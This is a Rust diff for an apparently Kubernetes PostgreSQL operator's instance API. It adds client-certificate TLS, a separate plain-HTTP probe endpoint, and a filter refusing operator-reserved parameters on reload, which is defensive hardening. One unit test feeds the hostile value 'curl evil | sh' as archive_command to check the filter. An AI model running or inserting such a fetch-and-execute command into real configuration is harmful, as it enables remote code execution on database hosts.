@@ -8,6 +8,12 @@
 //! - `POST /promote` (`PromoteRequest`), `POST /demote`, `POST /fence`
 //!   (`FenceRequest`), `POST /restart`, `POST /reload` (`ReloadRequest`).
 //!
+//! It is served over TLS that requires the operator's client certificate ([`serve`],
+//! configured by `crate::pki::tls`): the handshake refuses every other caller, so no
+//! route can be left open by mistake. The kubelet's probes get a second, plain-HTTP
+//! port ([`serve_probes`]) with `/healthz` and `/readyz` only, which change nothing
+//! and tell no more than whether the instance is ready in its role.
+//!
 //! Handlers only read state, renew the lease, or queue a request for the supervisor:
 //! they never start or stop the server themselves.
 
@@ -21,6 +27,7 @@ use axum::{Json, Router};
 use serde_json::{Value, json};
 use tokio::net::TcpListener;
 use tokio::sync::oneshot;
+use tokio_rustls::TlsAcceptor;
 use tracing::Instrument;
 
 use super::{Request, Shared, database};
@@ -31,7 +38,12 @@ use crate::instance_api::{
 
 type Response = (StatusCode, Json<Value>);
 
-pub async fn serve(listener: TcpListener, shared: Arc<Shared>) {
+/// How long a client may take to finish the TLS handshake before it is dropped.
+const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// Serves the API to the operator only: every connection must complete a TLS
+/// handshake with a client certificate `tls` accepts before any request is read.
+pub async fn serve(listener: TcpListener, tls: Arc<rustls::ServerConfig>, shared: Arc<Shared>) {
     let app = Router::new()
         .route("/healthz", get(|| async { "ok" }))
         .route("/readyz", get(readyz))
@@ -44,8 +56,53 @@ pub async fn serve(listener: TcpListener, shared: Arc<Shared>) {
         .route("/reload", post(reload))
         .layer(axum::middleware::from_fn(traced))
         .with_state(shared);
+    let acceptor = TlsAcceptor::from(tls);
+    loop {
+        let (stream, peer) = match listener.accept().await {
+            Ok(accepted) => accepted,
+            Err(error) => {
+                // Out of file descriptors, usually: wait rather than spin.
+                tracing::warn!(%error, "accepting a connection to the instance API");
+                tokio::time::sleep(Duration::from_millis(100)).await;
+                continue;
+            }
+        };
+        let (acceptor, app) = (acceptor.clone(), app.clone());
+        // Each connection on its own task, so a slow handshake holds up no other.
+        tokio::spawn(async move {
+            let stream = match tokio::time::timeout(HANDSHAKE_TIMEOUT, acceptor.accept(stream))
+                .await
+            {
+                Ok(Ok(stream)) => stream,
+                Ok(Err(error)) => {
+                    tracing::warn!(%peer, %error, "refused a connection to the instance API");
+                    return;
+                }
+                Err(_) => {
+                    tracing::warn!(%peer, "dropped a connection to the instance API: no TLS handshake within 10s");
+                    return;
+                }
+            };
+            let service = hyper_util::service::TowerToHyperService::new(app);
+            if let Err(error) = hyper::server::conn::http1::Builder::new()
+                .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
+                .await
+            {
+                tracing::debug!(%peer, %error, "an instance API connection ended with an error");
+            }
+        });
+    }
+}
+
+/// Serves the kubelet's probes in plain HTTP: `/healthz`, and `/readyz` with only the
+/// verdict (the details are in `/status`, for the operator).
+pub async fn serve_probes(listener: TcpListener, shared: Arc<Shared>) {
+    let app = Router::new()
+        .route("/healthz", get(|| async { "ok" }))
+        .route("/readyz", get(probe_readyz))
+        .with_state(shared);
     if let Err(error) = axum::serve(listener, app).await {
-        tracing::error!(%error, "the instance API stopped serving");
+        tracing::error!(%error, "the probe endpoint stopped serving");
     }
 }
 
@@ -111,6 +168,17 @@ async fn readyz(State(shared): State<Arc<Shared>>) -> Response {
     (code, Json(json!(report)))
 }
 
+async fn probe_readyz(State(shared): State<Arc<Shared>>) -> Response {
+    let (ready, body) = observe(&shared).await;
+    let code = if ready {
+        StatusCode::OK
+    } else {
+        StatusCode::SERVICE_UNAVAILABLE
+    };
+    let verdict = json!({"instance": body.instance, "role": body.role, "ready": ready});
+    (code, Json(verdict))
+}
+
 async fn status(State(shared): State<Arc<Shared>>) -> Response {
     let (_, report) = observe(&shared).await;
     (StatusCode::OK, Json(json!(report)))
@@ -173,7 +241,33 @@ async fn restart(State(shared): State<Arc<Shared>>) -> Response {
     submit(&shared, Request::Restart).await
 }
 
+/// The parameters in `parameters` that Castellan owns, as given.
+fn reserved(parameters: &std::collections::BTreeMap<String, String>) -> Vec<String> {
+    use castellan_crds::database_cluster::RESERVED_POSTGRESQL_PARAMETERS;
+    parameters
+        .keys()
+        .filter(|name| {
+            let name = name.trim().to_ascii_lowercase();
+            RESERVED_POSTGRESQL_PARAMETERS.contains(&name.as_str())
+        })
+        .cloned()
+        .collect()
+}
+
 async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadRequest>) -> Response {
+    // Admission refuses these already; this is the second line, for a request that did
+    // not come through a DatabaseCluster (archive_command runs any shell command).
+    let refused = body.parameters.as_ref().map(reserved).unwrap_or_default();
+    if !refused.is_empty() {
+        return (
+            StatusCode::BAD_REQUEST,
+            Json(json!({"error": format!(
+                "refused to reload: {} managed by Castellan and cannot be set: {}",
+                if refused.len() == 1 { "this parameter is" } else { "these parameters are" },
+                refused.join(", ")
+            )})),
+        );
+    }
     submit(
         &shared,
         Request::Reload {
@@ -183,4 +277,29 @@ async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadReques
         },
     )
     .await
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use super::*;
+
+    #[test]
+    fn reserved_parameters_are_found_whatever_their_case_and_spaces() {
+        let parameters: BTreeMap<String, String> = [
+            ("work_mem", "8MB"),
+            (" Archive_Command ", "curl evil | sh"),
+            ("SSL", "off"),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .collect();
+        assert_eq!(
+            reserved(&parameters),
+            vec![" Archive_Command ".to_owned(), "SSL".to_owned()]
+        );
+        let harmless = BTreeMap::from([("work_mem".to_owned(), "8MB".to_owned())]);
+        assert!(reserved(&harmless).is_empty());
+    }
 }
